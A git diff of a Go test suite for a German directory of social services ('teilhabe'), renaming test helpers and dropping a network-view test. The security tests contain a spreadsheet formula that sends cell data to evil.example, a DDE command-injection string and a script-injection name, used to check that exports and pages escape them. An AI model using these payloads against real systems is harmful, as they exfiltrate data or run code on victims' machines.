@@ -11,7 +11,6 @@ import (
 	"testing"
 	"time"
 
-	"teilhabe.org/teilhabe/internal/apptest"
 	"teilhabe.org/teilhabe/internal/auth"
 	"teilhabe.org/teilhabe/internal/directory"
 )
@@ -22,19 +21,19 @@ func TestMunicipalityFilters(t *testing.T) {
 	forEach(t, func(t *testing.T, e *env) {
 		coord := e.NewPerson(t, "koord", auth.Coordinator)
 		owner := e.NewPerson(t, "owner", auth.Member)
-		mu := e.municipality(t, coord, "06611000", "Kassel")
-		e.municipality(t, coord, "05315000", "Köln")
-		o := e.newOrg(t, owner, "Beratung Kassel", "welfare_association", "34117", "Kassel", "de")
-		morning := e.location(t, owner, o.ID, mu.AGS, "Morgenweg 1") // weekdays 9–17
+		mu := e.Municipality(t, coord, "06611000", "Kassel")
+		e.Municipality(t, coord, "05315000", "Köln")
+		o := e.NewOrg(t, owner, "Beratung Kassel", "welfare_association", "34117", "Kassel", "de")
+		morning := e.Location(t, owner, o.ID, mu.AGS, "Morgenweg 1") // weekdays 9–17
 		evening, err := e.Dir.CreateLocation(ctx, owner.ID, o.ID, directory.LocationInput{Street: "Abendweg 2", Postcode: "34117",
 			City: "Kassel", AGS: mu.AGS, Periods: []directory.Period{period(1, "18:00", "21:00")}})
 		if err != nil {
 			t.Fatal(err)
 		}
-		e.service(t, owner, o.ID, "Asylverfahrensberatung", "legal_advice.asylum_counselling", []string{"de", "fa"}, morning.ID)
-		e.service(t, owner, o.ID, "Abendsprechstunde auf Farsi", "legal_advice", []string{"fa"}, evening.ID)
-		e.service(t, owner, o.ID, "Sprachcafé", "german_lessons.conversation", []string{"de", "ar"}, morning.ID, evening.ID)
-		e.service(t, owner, o.ID, "Ohne Ort", "health", []string{"de"})
+		e.Service(t, owner, o.ID, "Asylverfahrensberatung", "legal_advice.asylum_counselling", []string{"de", "fa"}, morning.ID)
+		e.Service(t, owner, o.ID, "Abendsprechstunde auf Farsi", "legal_advice", []string{"fa"}, evening.ID)
+		e.Service(t, owner, o.ID, "Sprachcafé", "german_lessons.conversation", []string{"de", "ar"}, morning.ID, evening.ID)
+		e.Service(t, owner, o.ID, "Ohne Ort", "health", []string{"de"})
 
 		// Monday 2 March 2026, 9:00 in Kassel.
 		visitor := e.Client(t)
@@ -111,10 +110,10 @@ func TestMunicipalityFilters(t *testing.T) {
 func TestFindMunicipality(t *testing.T) {
 	e := newEnv(t, "sqlite")
 	coord := e.NewPerson(t, "koord", auth.Coordinator)
-	e.municipality(t, coord, "06611000", "Kassel")
-	e.municipality(t, coord, "06633028", "Wolfhagen")
-	e.municipality(t, coord, "06633013", "Hofgeismar")
-	e.municipality(t, coord, "05315000", "Köln")
+	e.Municipality(t, coord, "06611000", "Kassel")
+	e.Municipality(t, coord, "06633028", "Wolfhagen")
+	e.Municipality(t, coord, "06633013", "Hofgeismar")
+	e.Municipality(t, coord, "05315000", "Köln")
 	visitor := e.Client(t)
 	for q, want := range map[string]string{"06611000": "/municipalities/06611000", "köln": "/municipalities/05315000",
 		"KOELN": "/municipalities/05315000", "Atlantis": ""} {
@@ -145,7 +144,7 @@ func TestFindMunicipality(t *testing.T) {
 	// A location without municipality gets the one of its postcode, and
 	// the coordinates of the postcode area.
 	owner := e.NewPerson(t, "owner", auth.Member)
-	o := e.newOrg(t, owner, "Verein Wolfhagen", "initiative", "34466", "Wolfhagen", "de")
+	o := e.NewOrg(t, owner, "Verein Wolfhagen", "initiative", "34466", "Wolfhagen", "de")
 	l, err := e.Dir.CreateLocation(ctx, owner.ID, o.ID, directory.LocationInput{Street: "Burgstraße 1", Postcode: "34466", City: "Wolfhagen"})
 	if err != nil || l.AGS != "06633028" || l.Municipality != "Wolfhagen" || !l.HasPoint() || *l.Lat < 51.2 || *l.Lat > 51.4 {
 		t.Errorf("suggested municipality: %+v %v", l, err)
@@ -164,8 +163,8 @@ func TestServiceAndLocationForms(t *testing.T) {
 	e := newEnv(t, "sqlite")
 	coord := e.NewPerson(t, "koord", auth.Coordinator)
 	owner := e.NewPerson(t, "owner", auth.Member)
-	mu := e.municipality(t, coord, "06611000", "Kassel")
-	o := e.newOrg(t, owner, "Beratung Kassel", "welfare_association", "34117", "Kassel", "de")
+	mu := e.Municipality(t, coord, "06611000", "Kassel")
+	o := e.NewOrg(t, owner, "Beratung Kassel", "welfare_association", "34117", "Kassel", "de")
 
 	res := owner.Web.Post("/organizations/"+o.ID+"/locations/new", url.Values{"name": {"Büro Nord"}, "street": {"Nordweg 1"},
 		"postcode": {"3411"}, "city": {"Kassel"}, "ags": {mu.AGS}, "lat": {"51,3"}, "lon": {""},
@@ -239,8 +238,8 @@ func TestConfirmationAndReminder(t *testing.T) {
 		owner := e.NewPerson(t, "owner", auth.Member)
 		editor := e.NewPersonLang(t, "editor", auth.Member, "ar")
 		stranger := e.NewPerson(t, "stranger", auth.Member)
-		mu := e.municipality(t, coord, "06611000", "Kassel")
-		o := e.newOrg(t, owner, "Beratung Kassel", "welfare_association", "34117", "Kassel", "de")
+		mu := e.Municipality(t, coord, "06611000", "Kassel")
+		o := e.NewOrg(t, owner, "Beratung Kassel", "welfare_association", "34117", "Kassel", "de")
 		if err := e.Orgs.Invite(ctx, owner.ID, o.ID, editor.Email, "editor"); err != nil {
 			t.Fatal(err)
 		}
@@ -248,8 +247,8 @@ func TestConfirmationAndReminder(t *testing.T) {
 		if _, err := e.Orgs.AcceptInvitation(ctx, editor.ID, secret); err != nil {
 			t.Fatal(err)
 		}
-		l := e.location(t, owner, o.ID, mu.AGS, "Hauptstraße 1")
-		s := e.service(t, owner, o.ID, "Asylverfahrensberatung", "legal_advice", []string{"de"}, l.ID)
+		l := e.Location(t, owner, o.ID, mu.AGS, "Hauptstraße 1")
+		s := e.Service(t, owner, o.ID, "Asylverfahrensberatung", "legal_advice", []string{"de"}, l.ID)
 		if page := e.Client(t).Get("/services/" + s.ID); !strings.Contains(page.Body, "Zuletzt geprüft am 02.03.2026") {
 			t.Errorf("the service page does not say when it was checked")
 		}
@@ -307,94 +306,14 @@ func TestConfirmationAndReminder(t *testing.T) {
 	})
 }
 
-// TestNetworkView draws the network of a municipality and counts bridges
-// and isolated organisations.
-func TestNetworkView(t *testing.T) {
-	e := newEnv(t, "sqlite")
-	coord := e.NewPerson(t, "koord", auth.Coordinator)
-	mu := e.municipality(t, coord, "06611000", "Kassel")
-	e.municipality(t, coord, "05315000", "Köln")
-	people := map[string]*apptest.Person{}
-	orgs := map[string]string{}
-	for _, o := range []struct{ handle, name, kind string }{
-		{"mso1", "Syrischer Verein", "migrant_organization"}, {"mso2", "Afghanischer Verein", "migrant_organization"},
-		{"welfare", "Diakonie", "welfare_association"}, {"agency", "Freiwilligenagentur", "volunteer_agency"},
-		{"company", "Logistik GmbH", "company"},
-	} {
-		people[o.handle] = e.NewPerson(t, o.handle, auth.Member)
-		org := e.newOrg(t, people[o.handle], o.name, o.kind, "34117", "Kassel", "de")
-		orgs[o.handle] = org.ID
-		e.location(t, people[o.handle], org.ID, mu.AGS, o.name+" Straße 1")
-	}
-	elsewhere := e.NewPerson(t, "koeln", auth.Member)
-	e.newOrg(t, elsewhere, "Kölner Verein", "migrant_organization", "50667", "Köln", "de")
-	partner := func(a, b string, confirm bool) {
-		p, err := e.Dir.Propose(ctx, people[a].ID, directory.PartnershipInput{ProposerID: orgs[a], PartnerIDs: []string{orgs[b]},
-			Goal: "Ziel", Benefit: "Nutzen", StartsOn: "2026-01-01", Lang: "de"})
-		if err != nil {
-			t.Fatal(err)
-		}
-		if confirm {
-			if _, err := e.Dir.Confirm(ctx, people[b].ID, p.ID, "", nil); err != nil {
-				t.Fatal(err)
-			}
-		}
-	}
-	partner("mso1", "welfare", true)
-	partner("agency", "company", true)
-	partner("mso2", "agency", false)
-
-	n, err := e.Dir.Network(ctx, mu.AGS)
-	if err != nil {
-		t.Fatal(err)
-	}
-	var isolated []string
-	for _, node := range n.Isolated {
-		isolated = append(isolated, node.Org.Name)
-	}
-	if len(n.Nodes) != 5 || n.Partnerships != 2 || n.MSOs != 2 || n.MSOsBridged != 1 || !slices.Equal(isolated, []string{"Afghanischer Verein"}) {
-		t.Errorf("network: %d nodes, %d partnerships, %d/%d MSOs bridged, isolated %v", len(n.Nodes), n.Partnerships,
-			n.MSOsBridged, n.MSOs, isolated)
-	}
-	if len(n.Pairs) != 2 || n.Pairs[0] != (directory.KindPair{A: "volunteer_agency", B: "company", Count: 1}) ||
-		n.Pairs[1] != (directory.KindPair{A: "migrant_organization", B: "welfare_association", Count: 1}) {
-		t.Errorf("pairs: %+v", n.Pairs)
-	}
-	bridges := 0
-	for _, edge := range n.Edges {
-		if edge.Bridge {
-			bridges++
-		}
-	}
-	if len(n.Edges) != 2 || bridges != 1 {
-		t.Errorf("edges %d, bridges %d", len(n.Edges), bridges)
-	}
-	page := e.Client(t).Get("/network?ags=06611000")
-	if page.Status != http.StatusOK || strings.Count(page.Body, "<line ") != 2+1 || strings.Count(page.Body, `stroke="#a3360d" stroke-width="3"`) != 2+1 ||
-		!strings.Contains(page.Body, "<svg viewBox=") || strings.Contains(page.Body, "Kölner Verein") {
-		t.Errorf("network page: %d", page.Status)
-	}
-	all, _ := e.Dir.Network(ctx, "")
-	if len(all.Nodes) != 6 || all.MSOs != 3 {
-		t.Errorf("whole network: %d nodes, %d MSOs", len(all.Nodes), all.MSOs)
-	}
-	if res := e.Client(t).Get("/network?ags=12345678"); res.Status != http.StatusNotFound {
-		t.Errorf("unknown municipality: %d", res.Status)
-	}
-	finder := e.Client(t).Get("/organizations/" + orgs["mso2"] + "/partners")
-	if finder.Status != http.StatusOK || !strings.Contains(finder.Body, "Diakonie") || strings.Contains(finder.Body, ">Freiwilligenagentur<") {
-		t.Errorf("finder page: %d", finder.Status)
-	}
-}
-
 // TestCSVHasNoFormulas: names people typed reach the volunteer CSV as
 // text, never as a formula a spreadsheet would run.
 func TestCSVHasNoFormulas(t *testing.T) {
 	e := newEnv(t, "sqlite")
 	owner := e.NewPerson(t, "owner", auth.Member)
 	hyperlink := `=HYPERLINK("https://evil.example/?"&A1,"Details")`
-	o := e.newOrg(t, owner, hyperlink, "initiative", "34117", "Kassel")
-	e.service(t, owner, o.ID, "@SUM(1+1)*cmd|' /C calc'!A0", "volunteering.events", []string{"de"})
+	o := e.NewOrg(t, owner, hyperlink, "initiative", "34117", "Kassel")
+	e.Service(t, owner, o.ID, "@SUM(1+1)*cmd|' /C calc'!A0", "volunteering.events", []string{"de"})
 	res := e.Client(t).Get("/directory/export.csv")
 	if !strings.HasPrefix(res.Body, "\uFEFForganization_id,") || !strings.Contains(res.Body, "\r\n") {
 		t.Errorf("not UTF-8 with a byte order mark and CRLF: %q", res.Body)
@@ -408,11 +327,14 @@ func TestCSVHasNoFormulas(t *testing.T) {
 	}
 }
 
-// TestCSVAndJSONLD: the volunteer CSV lists volunteering services; the
-// service and organisation pages carry schema.org data.
+// TestCSVAndJSONLD: the volunteer CSV lists volunteering services and
+// what their organisations look for partners for (the network's demo
+// content); the service and organisation pages carry schema.org data.
 func TestCSVAndJSONLD(t *testing.T) {
 	e := newEnv(t, "sqlite")
-	e.seedDemo(t)
+	if _, err := e.P.SeedDemoIfEmpty(ctx); err != nil {
+		t.Fatal(err)
+	}
 	res := e.Client(t).Get("/directory/export.csv")
 	if res.Status != http.StatusOK || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
 		t.Fatalf("csv: %d", res.Status)
@@ -458,12 +380,12 @@ func TestCSVAndJSONLD(t *testing.T) {
 	orgPage := e.Client(t).Get("/organizations/" + orgID[1])
 	m = jsonld.FindStringSubmatch(orgPage.Body)
 	if m == nil || json.Unmarshal([]byte(m[1]), &doc) != nil || doc["@type"] != "Organization" ||
-		!strings.Contains(orgPage.Body, "Asylverfahrensberatung") || !strings.Contains(orgPage.Body, "/partnerships/") {
+		!strings.Contains(orgPage.Body, "Asylverfahrensberatung") {
 		t.Errorf("organisation page: JSON-LD %v", m)
 	}
 	// Text that would end the script is escaped.
 	owner := e.NewPerson(t, "owner", auth.Member)
-	o := e.newOrg(t, owner, "</script><script>alert(1)</script>", "initiative", "34117", "Kassel", "de")
+	o := e.NewOrg(t, owner, "</script><script>alert(1)</script>", "initiative", "34117", "Kassel", "de")
 	body := e.Client(t).Get("/organizations/" + o.ID).Body
 	if strings.Contains(body, "<script>alert(1)") {
 		t.Errorf("a name ends the JSON-LD block")
